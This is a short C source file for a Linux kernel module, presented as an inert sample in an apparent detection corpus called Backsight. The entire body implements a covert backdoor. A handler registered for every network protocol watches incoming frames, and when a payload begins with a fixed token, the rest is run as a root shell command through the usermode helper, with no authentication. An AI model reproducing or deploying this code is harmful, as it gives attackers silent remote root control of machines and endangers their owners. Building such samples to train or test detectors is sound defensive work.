/*
 * Backsight corpus sample: kernel/packet-shell-raw  (INERT - compiled only, never loaded)
 *
 * The same technique without netfilter: a packet_type handler for every protocol
 * (dev_add_pack with ETH_P_ALL) sees each frame before the IP stack; a frame whose payload
 * starts with a token has the rest run by `/bin/bash -c`, the helper set up with
 * call_usermodehelper_setup (atomic allocation, callable from the receive path) and started
 * with call_usermodehelper_exec without waiting.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "packet_shell_raw");
MODINFO(vermagic, CORPUS_VERMAGIC);
DEFINE_THIS_MODULE("packet_shell_raw");

#define ETH_P_ALL 0x0300 /* htons(0x0003) */
static const char token[] = { 'b', 's', 'i', 'g', 'h', 't', '-', 'r', 'a', 'w' };

static char line[160];
static char *argv[] = { "/bin/bash", "-c", line, NULL };
static char *envp[] = { "PATH=/usr/sbin:/usr/bin:/sbin:/bin", NULL };

static int receive(struct sk_buff *skb, struct net_device *dev, struct packet_type *type, struct net_device *original)
{
	char head[sizeof(token) + sizeof(line)];
	struct subprocess_info *info;
	(void)dev; (void)type; (void)original;
	if (skb_copy_bits(skb, 42, head, sizeof(head)) == 0 && memcmp(head, token, sizeof(token)) == 0) {
		memcpy(line, head + sizeof(token), sizeof(line) - 1);
		line[sizeof(line) - 1] = 0;
		info = call_usermodehelper_setup(argv[0], argv, envp, GFP_ATOMIC, NULL, NULL, NULL);
		if (info)
			call_usermodehelper_exec(info, UMH_NO_WAIT);
	}
	kfree_skb_reason(skb, 2);
	return 0;
}

static struct packet_type tap = {
	.type = ETH_P_ALL,
	.func = receive,
};

int init_module(void)
{
	dev_add_pack(&tap);
	return 0;
}

void cleanup_module(void)
{
	dev_remove_pack(&tap);
}
